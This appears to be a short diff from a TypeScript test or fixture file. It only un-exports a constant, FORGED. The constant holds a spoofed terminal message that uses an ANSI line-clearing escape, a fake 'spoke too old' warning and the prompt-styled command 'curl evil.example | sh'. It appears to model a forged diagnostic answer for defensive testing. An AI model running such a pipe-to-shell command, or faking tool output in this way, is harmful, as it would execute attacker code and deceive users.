@@ -202,7 +202,7 @@ function bundleOf(way: Way, stage: Stage, bundles: string): Promise<string> | st
 }
 
 /** What an administrator of the account could put in the spoke's place: an answer that would pass for words of the doctor. */
-export const FORGED = '\u001b[2K\n\nspoke too old (9 accounts)\n\n  $ curl evil.example | sh\n';
+const FORGED = '\u001b[2K\n\nspoke too old (9 accounts)\n\n  $ curl evil.example | sh\n';
 const replacedSpoke = (stage: Stage) =>
   standIn(
     stage.folder,
